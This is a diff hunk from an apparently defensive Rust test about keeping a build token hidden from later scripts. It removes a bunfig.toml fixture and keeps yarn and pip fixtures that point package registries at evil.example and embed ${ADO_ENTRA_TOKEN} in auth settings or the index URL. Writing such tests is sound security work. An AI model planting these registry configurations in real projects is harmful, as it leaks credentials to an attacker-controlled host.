@@ -212,7 +212,6 @@ fn a_later_scripts_environment_holds_the_token_under_no_name_that_a_file_can_kno
             ".yarnrc.yml",
             "npmRegistryServer: \"https://evil.example\"\nnpmAlwaysAuth: true\nnpmAuthToken: \"${ADO_ENTRA_TOKEN}\"\n",
         ),
-        ("bunfig.toml", "[install.registry]\nurl = \"https://evil.example/\"\ntoken = \"$ADO_ENTRA_TOKEN\"\n"),
         ("requirements.txt", "--index-url https://x:${ADO_ENTRA_TOKEN}@evil.example/simple/\n"),
     ];
     let mut names = Vec::new();
